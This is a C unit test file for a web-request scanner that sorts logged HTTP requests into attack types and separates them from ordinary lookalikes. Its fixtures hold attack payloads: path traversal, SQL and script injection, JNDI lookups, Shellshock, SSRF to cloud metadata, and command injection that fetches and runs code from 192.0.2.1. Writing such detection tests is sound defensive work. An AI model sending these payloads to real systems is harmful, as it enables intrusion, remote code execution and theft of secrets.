/* SPDX-License-Identifier: Apache-2.0 */
/*
 * What this proves: each kind of request is recognised by what it holds, however it is encoded;
 * ordinary requests that look like one are not; and every rule is in the manual.
 * Oracle: requests written by hand from the advisories the rules name, and ordinary addresses that
 * hold the same words.
 */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdio.h>
#include <stdlib.h>

#include <cmocka.h>

#include "base/hash.h"
#include "base/str.h"
#include "trace/http_request.h"
#include "trace/web.h"
#include "trace/web_literals.h"
#include "trace/web_rules.h"
#include "trace/web_seen.h"

static struct onus_web_scanner *scanner;

static int set_up(void **state)
{
    (void)state;
    scanner = onus_web_scanner_new(NULL);
    return scanner ? 0 : -1;
}

static int tear_down(void **state)
{
    (void)state;
    onus_web_scanner_free(scanner);
    return 0;
}

static struct onus_event inspect(const char *request, unsigned status, const char *agent)
{
    struct onus_event event = {.kind = ONUS_EVENT_WEB, .status = (uint16_t)status, .bytes = 1};
    onus_http_request(onus_str_of(request), &event);
    event.agent = onus_str_of(agent);
    onus_web_inspect(scanner, &event);
    return event;
}

static bool finds(enum onus_finding finding, const char *request, unsigned status)
{
    struct onus_event event = inspect(request, status, "");
    bool found = (event.findings & ONUS_FINDING_BIT(finding)) != 0;
    if (!found) {
        (void)fprintf(stderr, "not found (%s): %s\n", onus_finding_name(finding), request);
    }
    return found;
}

/* Nothing at all, not even a probe. */
static bool is_ordinary(const char *target, unsigned status)
{
    char request[512];
    (void)snprintf(request, sizeof(request), "GET %s HTTP/1.1", target);
    struct onus_event event = inspect(request, status, "");
    if (event.findings != 0) {
        (void)fprintf(stderr, "%s: %s\n", event.rule, target);
    }
    return event.findings == 0;
}

static void attacks_are_found_in_every_encoding(void **state)
{
    (void)state;
    static const struct {
        enum onus_finding finding;
        const char *target;
    } rows[] = {
            {ONUS_FINDING_TRAVERSAL, "/a/../../../etc/passwd"},
            {ONUS_FINDING_TRAVERSAL, "/a/..%2f..%2f..%2fetc%2fpasswd"},
            {ONUS_FINDING_TRAVERSAL, "/cgi-bin/.%2e/.%2e/bin/sh"},
            {ONUS_FINDING_TRAVERSAL, "/cgi-bin/%%32%65%%32%65/%%32%65%%32%65/x"},
            {ONUS_FINDING_TRAVERSAL, "/u/%252e%252e/x.php"},
            {ONUS_FINDING_TRAVERSAL, "/scripts/..%c0%af../winnt/system32/x"},
            {ONUS_FINDING_TRAVERSAL, "/scripts/..%255c..%255cwinnt/x"},
            {ONUS_FINDING_TRAVERSAL, "/a/..%u2215..%uff0f..%uff0fetc%uff0fpasswd"},
            {ONUS_FINDING_TRAVERSAL, "/app/..;/manager/x"},
            {ONUS_FINDING_TRAVERSAL, "/x?file=/ETC/Passwd"},
            {ONUS_FINDING_SQL_INJECTION, "/p?id=1%20UNION%20ALL%20SELECT%201,2"},
            {ONUS_FINDING_SQL_INJECTION, "/p?id=1/**/uNiOn/**/sElEcT/**/1"},
            {ONUS_FINDING_SQL_INJECTION, "/p?id=1'+OR+'1'='1"},
            {ONUS_FINDING_SQL_INJECTION, "/p?id=1%27%20and%20sleep(5)--"},
            {ONUS_FINDING_SQL_INJECTION, "/p?id=1+and+1=1"},
            {ONUS_FINDING_SQL_INJECTION, "/p?id=1;waitfor+delay+'0:0:5'"},
            {ONUS_FINDING_SQL_INJECTION, "/p?id=(select+password+from+users)"},
            {ONUS_FINDING_SCRIPT_INJECTION, "/s?q=<script>x</script>"},
            {ONUS_FINDING_SCRIPT_INJECTION, "/s?q=%253Cscript%253E"},
            {ONUS_FINDING_SCRIPT_INJECTION, "/s?q=%22%3E%3Cimg%20src=x%20onerror=a%3E"},
            {ONUS_FINDING_SCRIPT_INJECTION, "/s?q=javascript:alert(1)"},
            {ONUS_FINDING_COMMAND_INJECTION, "/x?a=1;wget+http://192.0.2.1/a"},
            {ONUS_FINDING_COMMAND_INJECTION, "/x?a=$(curl%20http://192.0.2.1/a|sh)"},
            {ONUS_FINDING_COMMAND_INJECTION, "/x?a=1|id"},
            {ONUS_FINDING_COMMAND_INJECTION, "/a${IFS}b"},
            {ONUS_FINDING_TEMPLATE_LOOKUP, "/?x=${jndi:ldap://192.0.2.1/a}"},
            {ONUS_FINDING_TEMPLATE_LOOKUP, "/?x=$%7B$%7Blower:j%7Dndi:x%7D"},
            {ONUS_FINDING_TEMPLATE_LOOKUP, "/?x={{7*7}}"},
            {ONUS_FINDING_FILE_INCLUSION, "/?p=php://filter/resource=x"},
            {ONUS_FINDING_FILE_INCLUSION, "/a.php?dir=http://192.0.2.1/c.txt??"},
            {ONUS_FINDING_FILE_INCLUSION, "/a.php?f=x%00.jpg"},
            {ONUS_FINDING_WEB_SHELL, "/up/my_Shell.php"},
            {ONUS_FINDING_WEB_SHELL, "/c99.php"},
            {ONUS_FINDING_KNOWN_EXPLOIT, "/vendor/phpunit/src/Util/PHP/eval-stdin.php"},
            {ONUS_FINDING_KNOWN_EXPLOIT, "/s/x/_/;/WEB-INF/web.xml"},
            {ONUS_FINDING_KNOWN_EXPLOIT, "/html/usr/share/help.html%3f"},
            {ONUS_FINDING_KNOWN_EXPLOIT, "/shell?cd+/tmp;rm+x"},
            {ONUS_FINDING_OVERFLOW, "/default.ida?NNNN"},
            {ONUS_FINDING_REQUEST_FORGERY, "/?u=http://169.254.169.254/latest/"},
            {ONUS_FINDING_SECRET_FILE, "/api/.env"},
            {ONUS_FINDING_SECRET_FILE, "/.git/config"},
            {ONUS_FINDING_SECRET_FILE, "/wp-config.php~"},
            {ONUS_FINDING_SECRET_FILE, "/.listing"},
            {ONUS_FINDING_ADMIN_PANEL, "//phpMyAdmin-2.8/index.php"},
            {ONUS_FINDING_ADMIN_PANEL, "/+CSCOE+/logon.html"},
            {ONUS_FINDING_CMS_PROBE, "/blog/wp-admin/"},
            {ONUS_FINDING_DEVICE_PROBE, "/boaform/admin/formLogin"},
            {ONUS_FINDING_TECHNOLOGY_PROBE, "/w00tw00t.at.x"},
            {ONUS_FINDING_TECHNOLOGY_PROBE, "/crowdsec-test-NtktlJHV4TfBSK3wvlhiOBnl"},
    };
    for (size_t i = 0; i < ONUS_COUNT(rows); i++) {
        char request[512];
        (void)snprintf(request, sizeof(request), "GET %s HTTP/1.1", rows[i].target);
        assert_true(finds(rows[i].finding, request, 404));
    }
}

static void ordinary_requests_hold_the_same_words(void **state)
{
    (void)state;
    static const char *const targets[] = {
            "/",
            "/news/union-selects-new-leader.html",
            "/search?q=european+union+selection",
            "/search?q=trade+union+select+committee",
            "/search?q=select+a+gift+from+our+shop",
            "/search?q=to+be+or+not+to+be",
            "/search?q=tom+and+jerry&page=1",
            "/search?q=o'reilly+and+sons",
            "/search?q=it's+now+or+never",
            "/search?q=how+to+use+wget+and+curl",
            "/search?q=rm+-rf+explained",
            "/search?q=100%25+cotton",
            "/search?q=caf%C3%A9+%26+bar",
            "/search?q=C%2B%2B+template+%7B%7Bname%7D%7D",
            "/login?next=https://www.example.org/account",
            "/redirect?url=https%3A%2F%2Fwww.example.org%2F",
            "/blog/tags/shell?page=3",
            "/products/shell-chair.html",
            "/a/../b.css",
            "/.well-known/acme-challenge/x",
            "/.well-known/security.txt",
            "/environment/.environment-guide",
            "/js/javascript.js",
            "/static/js/scripts.min.js?v=1.2.3",
            "/wp-content/plugins/gallery/style.css",
            "/wp-includes/js/jquery.js",
            "/forum/alert-system(new).html",
            "/sleep(zz)",
            "/docs/etc/password-policy.html",
            "/account/login",
            "/admin/",
            "/images/xxxx.png",
            "*",
    };
    for (size_t i = 0; i < ONUS_COUNT(targets); i++) {
        assert_true(is_ordinary(targets[i], 200));
    }
}

static void the_method_and_the_form_say_something(void **state)
{
    (void)state;
    assert_true(finds(ONUS_FINDING_PROXY_ABUSE, "CONNECT www.example.org:443 HTTP/1.1", 400));
    assert_true(finds(ONUS_FINDING_PROXY_ABUSE, "GET http://www.example.org/ HTTP/1.1", 404));
    assert_true(finds(ONUS_FINDING_METHOD_PROBE, "PROPFIND / HTTP/1.1", 405));
    assert_true(finds(ONUS_FINDING_METHOD_PROBE, "TRACE / HTTP/1.1", 200));
    assert_true(finds(ONUS_FINDING_METHOD_PROBE, "FOO / HTTP/1.1", 501));
    assert_int_equal(inspect("PROPFIND /dav/ HTTP/1.1", 207, "").findings, 0);
    assert_int_equal(inspect("OPTIONS * HTTP/1.0", 200, "").findings, 0);
    assert_true(finds(ONUS_FINDING_BINARY_REQUEST, "\x16\x03\x01", 400));
    assert_true(finds(ONUS_FINDING_BINARY_REQUEST, "SSH-2.0-Go", 400));
    assert_true(finds(ONUS_FINDING_BAD_PROTOCOL, "HELP", 400));
    assert_true(finds(ONUS_FINDING_BAD_PROTOCOL, "", 400));
    assert_int_equal(inspect("-", 408, "").findings, 0);
    assert_true(finds(ONUS_FINDING_BAD_PROTOCOL, "GET / HTTP/2.1", 400));
    assert_int_equal(inspect("GET / HTTP/0.9", 200, "").findings, 0);
}

static void an_own_absolute_address_is_no_proxy_request(void **state)
{
    (void)state;
    struct onus_event event = {.kind = ONUS_EVENT_WEB, .status = 200};
    event.host = ONUS_STR("www.example.org:443");
    onus_http_request(ONUS_STR("GET http://www.example.org/ HTTP/1.1"), &event);
    onus_web_inspect(scanner, &event);
    assert_int_equal(event.findings, 0);
}

static void logins_are_posts_and_refusals(void **state)
{
    (void)state;
    const onus_findings post = ONUS_FINDING_BIT(ONUS_FINDING_LOGIN_POST);
    const onus_findings refused = ONUS_FINDING_BIT(ONUS_FINDING_LOGIN_REFUSED);
    assert_true(inspect("POST /wp-login.php HTTP/1.1", 200, "").findings == post);
    assert_true(inspect("POST /wp-login.php HTTP/1.1", 403, "").findings == (post | refused));
    assert_true(inspect("POST /account/login HTTP/1.1", 302, "").findings == post);
    assert_true(inspect("GET /private/ HTTP/1.1", 401, "").findings == refused);
    assert_true(inspect("POST /ghost/api/admin/session/ HTTP/1.1", 404, "").findings ==
                (post | refused));
    assert_true(inspect("POST /ghost/api/admin/session/ HTTP/1.1", 201, "").findings == post);
    assert_true(inspect("POST /login/help.html HTTP/1.1", 200, "").findings == 0);
}

static void clients_are_what_they_call_themselves(void **state)
{
    (void)state;
    static const struct {
        enum onus_finding finding;
        const char *agent;
    } rows[] = {
            {ONUS_FINDING_SCANNER_AGENT, "sqlmap/1.7 (https://sqlmap.org)"},
            {ONUS_FINDING_SCANNER_AGENT, "Mozilla/5.0 zgrab/0.x"},
            {ONUS_FINDING_RESEARCH_SCANNER, "Mozilla/5.0 (compatible; CensysInspect/1.1)"},
            {ONUS_FINDING_CRAWLER, "Mozilla/5.0 (compatible; Googlebot/2.1)"},
            {ONUS_FINDING_TEMPLATE_LOOKUP, "${jndi:ldap://192.0.2.1/a}"},
            {ONUS_FINDING_COMMAND_INJECTION, "() { :; }; /bin/bash -c x"},
    };
    for (size_t round = 0; round < 2; round++) { /* the second is answered from memory */
        for (size_t i = 0; i < ONUS_COUNT(rows); i++) {
            struct onus_event event = inspect("GET / HTTP/1.1", 200, rows[i].agent);
            assert_true(event.findings == ONUS_FINDING_BIT(rows[i].finding));
            assert_non_null(event.rule);
        }
        assert_int_equal(inspect("GET / HTTP/1.1", 200, "Mozilla/5.0 (X11) Chrome/120").findings,
                0);
    }
}

/* Verdicts are kept per agent text, so nothing else of the event may decide them. */
static void agent_rules_look_at_the_agent_alone(void **state)
{
    (void)state;
    const unsigned allowed = ONUS_WEB_AGENT | ONUS_WEB_REFERER;
    for (size_t i = 0; i < onus_web_agents.count; i++) {
        assert_int_equal(onus_web_agents.rules[i].where & ~allowed, 0);
        assert_null(onus_web_agents.rules[i].confirm);
    }
}

static void a_referer_counts_only_as_a_carrier(void **state)
{
    (void)state;
    struct onus_event event = {.kind = ONUS_EVENT_WEB, .status = 200};
    onus_http_request(ONUS_STR("GET / HTTP/1.1"), &event);
    event.detail = ONUS_STR("https://search.example/?q=<script>+union+select+../../etc/passwd{}");
    onus_web_inspect(scanner, &event);
    assert_int_equal(event.findings, 0);
    event.detail = ONUS_STR("https://x.example/${jndi:ldap://192.0.2.1/a}");
    onus_web_inspect(scanner, &event);
    assert_true(event.findings == ONUS_FINDING_BIT(ONUS_FINDING_TEMPLATE_LOOKUP));
}

/*
 * The scanner of all tests has seen everything before, the other one nothing. Each target comes
 * several times with each method and status, since what is kept of it must not depend on those.
 */
static void what_was_seen_before_is_judged_as_if_it_was_not(void **state)
{
    (void)state;
    static const char *const methods[] = {"GET ", "POST ", "HEAD ", "PUT ", "get ", ""};
    static const char *const targets[] = {"/", "/shop/", "/a/b.png", "/a/b.png?v=2", "/.env",
            "/wp-login.php", "/%2e%2e/a", "//a", "a", "/a b", "%2fshop", "/xmlrpc.php", "/%c0%af",
            "http://www.example.org/shop/", "/shop/%00", "/x?q=union+select", "/a/b.pn", "*"};
    static const unsigned statuses[] = {200, 404, 401, 400, 200};
    static const char *const agents[] = {"", "Mozilla/5.0", "sqlmap/1.0", "Googlebot/2.1"};
    for (size_t i = 0; i < ONUS_COUNT(methods) * ONUS_COUNT(targets) * ONUS_COUNT(statuses); i++) {
        char request[128];
        (void)snprintf(request, sizeof(request), "%s%s HTTP/1.1",
                methods[i / ONUS_COUNT(statuses) % ONUS_COUNT(methods)],
                targets[i / ONUS_COUNT(statuses) / ONUS_COUNT(methods)]);
        unsigned status = statuses[i % ONUS_COUNT(statuses)];
        struct onus_event again = inspect(request, status, agents[i % ONUS_COUNT(agents)]);
        struct onus_web_scanner *experienced = scanner;
        scanner = onus_web_scanner_new(NULL);
        assert_non_null(scanner);
        struct onus_event fresh = inspect(request, status, agents[i % ONUS_COUNT(agents)]);
        onus_web_scanner_free(scanner);
        scanner = experienced;
        assert_true(again.findings == fresh.findings);
        assert_ptr_equal(again.rule, fresh.rule);
        assert_int_equal(again.marks, fresh.marks);
    }
}

/* Same length, same end, and one byte that differs anywhere: never the same hash. */
static void the_hash_of_a_target_depends_on_each_byte(void **state)
{
    (void)state;
    struct onus_web_key key;
    onus_web_key_init(&key);
    assert_true(key.drawn);
    char text[ONUS_WEB_SEEN_TEXT_MAX + 1] = {0};
    for (size_t len = 1; len <= 80; len++) {
        memset(text, 'a', len);
        uint64_t plain = onus_web_hash(&key, (struct onus_str){text, len});
        assert_true(plain != 0 && plain % 2 == 0);
        assert_true(plain != onus_web_hash(&key, (struct onus_str){text, len + 1}));
        for (size_t i = 0; i < len; i++) {
            text[i] = 'b';
            assert_true(plain != onus_web_hash(&key, (struct onus_str){text, len}));
            text[i] = 'a';
        }
    }
    assert_true(onus_web_hash(&key, (struct onus_str){text, ONUS_WEB_SEEN_TEXT_MAX}) != 0);
    assert_true(onus_web_hash(&key, (struct onus_str){text, sizeof(text)}) == 0);
    key.drawn = false;
    assert_true(onus_web_hash(&key, ONUS_STR("/")) == 0);
}

static void static_files_are_marked(void **state)
{
    (void)state;
    assert_true(inspect("GET /a/b.PNG?v=1 HTTP/1.1", 200, "").marks & ONUS_MARK_STATIC);
    assert_true(inspect("GET /a/b.woff2 HTTP/1.1", 200, "").marks & ONUS_MARK_STATIC);
    assert_false(inspect("GET /a/b.php HTTP/1.1", 200, "").marks & ONUS_MARK_STATIC);
    assert_false(inspect("GET /a?f=b.png HTTP/1.1", 200, "").marks & ONUS_MARK_STATIC);
}

static void the_gravest_rule_is_named(void **state)
{
    (void)state;
    struct onus_event event = inspect("GET /.env?x=../../../etc/passwd HTTP/1.1", 404, "sqlmap");
    assert_string_equal(event.rule, "path traversal");
}

static void no_scanner_finds_nothing(void **state)
{
    (void)state;
    struct onus_event event = {.kind = ONUS_EVENT_WEB, .target = ONUS_STR("/../../etc/passwd")};
    onus_web_inspect(NULL, &event);
    assert_int_equal(event.findings, 0);
}

static void decoding_is_as_written(void **state)
{
    (void)state;
    static char buffer[ONUS_WEB_TEXT_MAX];
    struct onus_web_text text;
    onus_web_decode(ONUS_STR("/A%2fb+c?D=e+f%2B%"), buffer, &text);
    assert_true(onus_str_eq((struct onus_str){text.ptr, text.len}, ONUS_STR("/a/b+c?d=e f+%")));
    assert_int_equal(text.query, 7);
    assert_int_equal(text.marks, 0);
    onus_web_decode(ONUS_STR("/%25252525x"), buffer, &text);
    assert_true(onus_str_eq((struct onus_str){text.ptr, text.len}, ONUS_STR("/%25x")));
    assert_int_equal(text.marks, ONUS_WEB_ENCODED_TWICE);
    onus_web_decode(ONUS_STR("/%c0%ae%C0%AE%e0%80%af"), buffer, &text);
    assert_true(onus_str_eq((struct onus_str){text.ptr, text.len}, ONUS_STR("/../")));
    assert_int_equal(text.marks, ONUS_WEB_OVERLONG);
    onus_web_decode(ONUS_STR("%"), buffer, &text);
    assert_int_equal(text.len, 1);
    onus_web_decode(ONUS_STR_NONE, buffer, &text);
    assert_int_equal(text.len, 0);
}

/* Without escapes a target is its lower case, with blanks for the '+' behind its first '?'. */
static void a_target_is_looked_at_in_one_pass(void **state)
{
    (void)state;
    static char buffer[ONUS_WEB_TEXT_MAX];
    static const char bytes[] = "/aBzZ@[`{09?+ .\x80\xff\xc1";
    uint64_t seed = 7;
    for (size_t round = 0; round < 20000; round++) {
        seed = seed * 6364136223846793005u + 1442695040888963407u;
        size_t len = (size_t)(seed >> 40) % 70;
        char *target = malloc(len > 0 ? len : 1);
        assert_non_null(target);
        bool asked = false;
        bool blank = false;
        char want[70];
        for (size_t i = 0; i < len; i++) {
            seed = seed * 6364136223846793005u + 1442695040888963407u;
            char c = bytes[(seed >> 40) % (sizeof(bytes) - 1)];
            target[i] = c;
            want[i] = c == '+' && asked ? ' ' : onus_lower(c);
            asked = asked || c == '?';
            blank = blank || c == ' ';
        }
        struct onus_web_text text;
        onus_web_decode((struct onus_str){target, len}, buffer, &text);
        assert_int_equal(text.len, len);
        assert_memory_equal(text.ptr, want, len);
        assert_true(text.has_query == asked && text.has_blank == blank && text.marks == 0);
        const char *query = len > 0 ? memchr(target, '?', len) : NULL;
        assert_int_equal(text.query, query ? (size_t)(query - target) + 1 : len);
        free(target);
    }
}

static void remember(size_t row, size_t from, size_t to, void *data)
{
    (void)to;
    if (from == 3) {
        ((bool *)data)[row] = true;
    }
}

static void lower_case_is_the_same_eight_bytes_at_a_time(void **state)
{
    (void)state;
    char text[256 + 7];
    char buffer[sizeof(text)];
    for (size_t shift = 0; shift < 8; shift++) {
        size_t len = 256 + shift;
        for (size_t i = 0; i < len; i++) {
            text[i] = (char)(i - shift);
        }
        struct onus_str lower = onus_web_lower((struct onus_str){text, len}, buffer, len);
        assert_int_equal(lower.len, len);
        for (size_t i = 0; i < len; i++) {
            assert_int_equal(lower.ptr[i], onus_lower(text[i]));
        }
    }
    assert_int_equal(onus_web_lower(ONUS_STR("ABCDEFGHIJ"), buffer, 9).len, 9);
}

static void every_literal_is_found_where_it_stands(void **state)
{
    (void)state;
    const unsigned fields[] = {ONUS_WEB_PATH | ONUS_WEB_QUERY | ONUS_WEB_TARGET, ONUS_WEB_AGENT};
    const struct onus_web_rule *rule = NULL;
    for (size_t f = 0; f < ONUS_COUNT(fields); f++) {
        struct onus_web_literals *set = NULL;
        assert_int_equal(onus_web_literals_new(fields[f], &set, NULL), ONUS_OK);
        for (size_t row = 0; (rule = onus_web_rule_at(row)); row++) {
            static bool seen[4096];
            char text[256];
            int len = snprintf(text, sizeof(text), "///%s", rule->literal);
            memset(seen, 0, sizeof(seen));
            const struct onus_web_found found = {remember, seen};
            onus_web_literals_scan(set, (struct onus_str){text, (size_t)len}, &found);
            assert_true(seen[row] == ((rule->where & fields[f]) != 0));
        }
        onus_web_literals_free(set);
    }
}

/* What a scan says, in whatever order it says it. */
struct findings_sum {
    uint64_t sum;
    size_t count;
};

static void add_up(size_t row, size_t from, size_t to, void *data)
{
    struct findings_sum *sum = data;
    sum->sum += onus_hash_mix(onus_hash_mix(row + 1, from + 1), to + 1);
    sum->count++;
}

static uint64_t next_random(uint64_t *state)
{
    *state = *state * 6364136223846793005u + 1442695040888963407u;
    return *state >> 33;
}

/* Literals whole, cut and run together, between bytes of all kinds. */
static size_t make_hostile(char *text, size_t room, size_t rows, uint64_t *state)
{
    size_t len = 0;
    size_t want = next_random(state) % room;
    while (len < want) {
        const char *literal = onus_web_rule_at(next_random(state) % rows)->literal;
        size_t whole = strlen(literal);
        size_t from = whole > 0 && next_random(state) % 3 == 0 ? next_random(state) % whole : 0;
        for (size_t i = from; i < whole && len < want; i++) {
            text[len++] = literal[i];
        }
        for (size_t i = next_random(state) % 4; i > 0 && len < want; i--) {
            text[len++] = (char)next_random(state);
        }
    }
    return len;
}

/* The fast paths ask tables where a literal may begin; the slow one looks for each everywhere. */
static void literals_are_found_as_by_looking_for_each(void **state)
{
    (void)state;
    const unsigned fields[] = {ONUS_WEB_PATH | ONUS_WEB_QUERY | ONUS_WEB_TARGET, ONUS_WEB_AGENT};
    uint64_t random = 20260726;
    size_t rows = 0;
    while (onus_web_rule_at(rows)) {
        rows++;
    }
    size_t seen = 0;
    for (size_t f = 0; f < ONUS_COUNT(fields); f++) {
        struct onus_web_literals *set = NULL;
        assert_int_equal(onus_web_literals_new(fields[f], &set, NULL), ONUS_OK);
        for (size_t round = 0; round < 3000; round++) {
            char room[200];
            size_t len = make_hostile(room, sizeof(room), rows, &random);
            char *text =
                    malloc(len > 0 ? len : 1); /* of its own: a sanitizer sees what is overread */
            assert_non_null(text);
            memcpy(text, room, len);
            struct findings_sum sums[3] = {{0}};
            struct onus_str view = {text, len};
            onus_web_literals_scan(set, view, &(struct onus_web_found){add_up, &sums[0]});
            onus_web_literals_scan_narrow(set, view, &(struct onus_web_found){add_up, &sums[1]});
            onus_web_literals_scan_plain(set, view, &(struct onus_web_found){add_up, &sums[2]});
            assert_memory_equal(&sums[0], &sums[2], sizeof(sums[0]));
            assert_memory_equal(&sums[1], &sums[2], sizeof(sums[0]));
            seen += sums[2].count;
            free(text);
        }
        onus_web_literals_free(set);
    }
    assert_true(seen > 10000);
}

/* One row of the manual. */
static void format_row(const struct onus_web_rule *rule, char *out, size_t size)
{
    static const char *const fields[] = {"path", "query", "target", "agent", "method", "request"};
    char literal[160];
    size_t len = 0;
    for (const char *p = rule->literal; *p && len + 8 < sizeof(literal); p++) {
        if (*p == '|' || (unsigned char)*p >= 0x7f) {
            len += (size_t)snprintf(literal + len, sizeof(literal) - len, "\\x%02x",
                    (unsigned)(unsigned char)*p);
        } else {
            literal[len++] = *p;
        }
    }
    literal[len] = '\0';
    size_t field = 0;
    while (!(rule->where & (1u << field))) {
        field++;
    }
    (void)snprintf(out, size, "| %s%s%s | %s%s%s | %s | %s |\n", len > 0 ? "`` " : "", literal,
            len > 0 ? " ``" : "", fields[field], rule->where & ONUS_WEB_POST ? ", POST" : "",
            rule->where & ONUS_WEB_ABSENT ? ", refused" : "", onus_finding_name(rule->finding),
            rule->reason);
}

static void every_rule_is_in_the_manual(void **state)
{
    (void)state;
    static char manual[1 << 18];
    char path[512];
    const char *root = getenv("SOURCE_ROOT");
    (void)snprintf(path, sizeof(path), "%s/docs/web-rules.md", root ? root : ".");
    FILE *f = fopen(path, "rbe");
    assert_non_null(f);
    manual[fread(manual, 1, sizeof(manual) - 1, f)] = '\0';
    (void)fclose(f);

    size_t missing = 0;
    size_t row = 0;
    const struct onus_web_rule *rule = NULL;
    for (; (rule = onus_web_rule_at(row)); row++) {
        char text[512];
        format_row(rule, text, sizeof(text));
        if (!strstr(manual, text)) {
            (void)fprintf(stderr, "%s", text); /* what to add to the manual */
            missing++;
        }
    }
    assert_int_equal(missing, 0);
    size_t rows = 0;
    for (const char *p = manual; (p = strstr(p, "\n| ")); p++) {
        rows++;
    }
    assert_int_equal(rows, row + 1); /* and the heading of the table */
}

int main(void)
{
    const struct CMUnitTest tests[] = {
            cmocka_unit_test(attacks_are_found_in_every_encoding),
            cmocka_unit_test(ordinary_requests_hold_the_same_words),
            cmocka_unit_test(the_method_and_the_form_say_something),
            cmocka_unit_test(an_own_absolute_address_is_no_proxy_request),
            cmocka_unit_test(logins_are_posts_and_refusals),
            cmocka_unit_test(clients_are_what_they_call_themselves),
            cmocka_unit_test(agent_rules_look_at_the_agent_alone),
            cmocka_unit_test(a_referer_counts_only_as_a_carrier),
            cmocka_unit_test(what_was_seen_before_is_judged_as_if_it_was_not),
            cmocka_unit_test(the_hash_of_a_target_depends_on_each_byte),
            cmocka_unit_test(static_files_are_marked),
            cmocka_unit_test(the_gravest_rule_is_named),
            cmocka_unit_test(no_scanner_finds_nothing),
            cmocka_unit_test(decoding_is_as_written),
            cmocka_unit_test(a_target_is_looked_at_in_one_pass),
            cmocka_unit_test(lower_case_is_the_same_eight_bytes_at_a_time),
            cmocka_unit_test(every_literal_is_found_where_it_stands),
            cmocka_unit_test(literals_are_found_as_by_looking_for_each),
            cmocka_unit_test(every_rule_is_in_the_manual),
    };
    return cmocka_run_group_tests_name("trace/web", tests, set_up, tear_down);
}
